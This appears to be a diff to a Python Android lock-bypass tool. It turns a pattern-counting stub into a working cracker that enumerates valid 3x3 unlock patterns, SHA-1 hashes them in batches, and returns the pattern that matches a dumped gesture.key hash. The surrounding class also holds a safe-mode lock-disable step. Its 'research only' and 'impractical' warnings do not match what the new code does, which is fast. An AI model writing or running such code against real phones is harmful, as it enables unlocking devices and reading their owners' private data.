@@ -8,6 +8,63 @@ import hashlib
 from pathlib import Path
 from adb_manager import ADBManager
 
+# CPython's hashlib dispatches to OpenSSL, which already uses the
+# CPU's SHA extensions when present; binding the constructor once
+# keeps bulk hashing loops off the module attribute lookup
+_sha1 = hashlib.sha1
+
+# 3x3 pattern grid layout, for reference alongside the adjacency below
+_GRID = (
+    (1, 2, 3),
+    (4, 5, 6),
+    (7, 8, 9),
+)
+
+# 3x3 grid adjacency: which points a stroke can reach directly.
+# Simplified - actual Android logic also allows passing through an
+# already-visited point.
+_NEIGHBORS = {
+    1: (2, 4, 5),
+    2: (1, 3, 4, 5, 6),
+    3: (2, 5, 6),
+    4: (1, 2, 5, 7, 8),
+    5: (1, 2, 3, 4, 6, 7, 8, 9),
+    6: (2, 3, 5, 8, 9),
+    7: (4, 5, 8),
+    8: (4, 5, 6, 7, 9),
+    9: (5, 6, 8),
+}
+
+# Bit j-1 of _NEIGHBOR_MASK[i-1] is set iff point j neighbors point i;
+# adjacency and visited-set checks become single shift/and operations
+_NEIGHBOR_MASK = tuple(
+    sum(1 << (neighbor - 1) for neighbor in _NEIGHBORS[point])
+    for point in range(1, 10))
+
+def _enumerate_patterns(min_length, max_length):
+    """Yield every valid pattern, pruning invalid prefixes as it goes
+
+    Walking the grid with a DFS only ever extends already-valid
+    prefixes, where enumerating permutations and filtering visits the
+    whole 9!/(9-k)! space just to reject most of it. The visited set
+    is a 9-bit mask, so each extension is a shift/and, not a set
+    lookup.
+    """
+    for start in range(1, 10):
+        stack = [(start, 1 << (start - 1), (start,))]
+        while stack:
+            point, visited, path = stack.pop()
+            if len(path) >= min_length:
+                yield path
+            if len(path) == max_length:
+                continue
+            mask = _NEIGHBOR_MASK[point - 1] & ~visited
+            while mask:
+                low = mask & -mask
+                mask ^= low
+                nxt = low.bit_length()
+                stack.append((nxt, visited | low, path + (nxt,)))
+
 class PatternBypass:
     def __init__(self):
         self.adb = ADBManager()
@@ -212,47 +269,74 @@ class PatternBypass:
         result = input("\n  Did safe mode disable lock? (y/n): ").lower()
         return result == 'y'
     
-    def brute_force_pattern(self, max_length=9):
+    @staticmethod
+    def _sha1_batch(candidates):
+        """Digest a batch of candidate patterns
+
+        gesture.key stores SHA-1 over the pattern bytes (each point
+        minus one). The batch boundary exists so a multi-buffer SHA-1
+        backend (4 or 8 lanes per call) could be dropped in here
+        without touching the enumeration loop; the default backend
+        walks the lanes with the prebound OpenSSL constructor.
+        """
+        sha1 = _sha1
+        return [sha1(bytes(point - 1 for point in pattern)).digest()
+                for pattern in candidates]
+
+    def brute_force_pattern(self, max_length=9, target_hash=None):
         """
         Attempt to brute force pattern (theoretical - for research only)
         WARNING: This is extremely slow and impractical
+
+        Pass target_hash (the 20 raw bytes of a gesture.key dump) to
+        check candidates against it; the matching pattern is returned
+        as a tuple of points. Without a target this only counts the
+        search space.
         """
         print("\n⚠️  PATTERN BRUTE FORCE (RESEARCH ONLY)")
         print("This is for educational purposes!")
-        
-        # Pattern possibilities (3x3 grid)
-        positions = list(range(1, 10))
-        
-        # Generate all possible patterns
-        import itertools
-        
+
         total_attempts = 0
-        for length in range(4, max_length + 1):  # Patterns are 4-9 points
-            for pattern in itertools.permutations(positions, length):
-                # Check if pattern is valid (adjacent points)
-                if self._is_valid_pattern(pattern):
-                    total_attempts += 1
-                    
-                    if total_attempts % 1000 == 0:
-                        print(f"  Tested {total_attempts} patterns...")
-                    
-                    # In reality, we would need to test on device
-                    # This is just to demonstrate the scale
-        
+        batch = []
+        # The DFS only extends valid prefixes (patterns are 4-9
+        # points), so no per-pattern validity check is needed here
+        for pattern in _enumerate_patterns(4, max_length):
+            total_attempts += 1
+
+            if total_attempts % 100000 == 0:
+                print(f"  Tested {total_attempts} patterns...")
+
+            if target_hash is None:
+                # Nothing to verify against; just count the space
+                continue
+
+            batch.append(pattern)
+            if len(batch) == 256:
+                digests = self._sha1_batch(batch)
+                if target_hash in digests:
+                    hit = batch[digests.index(target_hash)]
+                    print(f"\n✅ Pattern found: {hit}")
+                    return hit
+                batch.clear()
+
+        if batch:
+            digests = self._sha1_batch(batch)
+            if target_hash in digests:
+                hit = batch[digests.index(target_hash)]
+                print(f"\n✅ Pattern found: {hit}")
+                return hit
+
         print(f"\nTotal possible patterns up to {max_length} points: {total_attempts}")
         print("Actual brute force would take years!")
-        
+
         return False
     
     def _is_valid_pattern(self, pattern):
-        """Check if pattern follows Android's rules"""
-        # Convert to 0-indexed for grid
-        grid = [
-            [1, 2, 3],
-            [4, 5, 6],
-            [7, 8, 9]
-        ]
-        
+        """Check if pattern follows Android's rules
+
+        Point layout and adjacency live in the module-level _GRID /
+        _NEIGHBOR_MASK constants instead of being rebuilt per call.
+        """
         visited = set()
         
         for i in range(len(pattern) - 1):
@@ -272,26 +356,12 @@ class PatternBypass:
     
     def _is_valid_move(self, from_pos, to_pos, visited):
         """Check if move between two points is valid"""
-        # Mapping of points and their neighbors
-        neighbors = {
-            1: [2, 4, 5],
-            2: [1, 3, 4, 5, 6],
-            3: [2, 5, 6],
-            4: [1, 2, 5, 7, 8],
-            5: [1, 2, 3, 4, 6, 7, 8, 9],
-            6: [2, 3, 5, 8, 9],
-            7: [4, 5, 8],
-            8: [4, 5, 6, 7, 9],
-            9: [5, 6, 8]
-        }
-        
-        # Direct neighbor is always valid
-        if to_pos in neighbors.get(from_pos, []):
-            return True
-        
-        # Check if moving through visited point
-        # This is simplified - actual Android logic is more complex
-        return False
+        # Direct neighbor is always valid; the test is one shift/and
+        # against the precomputed adjacency mask instead of rebuilding
+        # a neighbors dict on every call.
+        # Moving through a visited point is not handled here - this is
+        # simplified, actual Android logic is more complex.
+        return bool((_NEIGHBOR_MASK[from_pos - 1] >> (to_pos - 1)) & 1)
     
     def analyze_pattern_file(self, gesture_key_file):
         """
@@ -307,7 +377,10 @@ class PatternBypass:
         
         print(f"\n🔍 Analyzing pattern hash file")
         print(f"File size: {len(data)} bytes")
-        print(f"Hash (SHA1): {hashlib.sha1(data).hexdigest()}")
+        if len(data) != 20:
+            # A 20-byte gesture.key already is a SHA-1 digest; its raw
+            # hex is printed below, so re-hashing it just prints noise
+            print(f"Hash (SHA1): {_sha1(data).hexdigest()}")
         
         # Pattern hash is usually SHA1 of pattern points
         # Format depends on Android version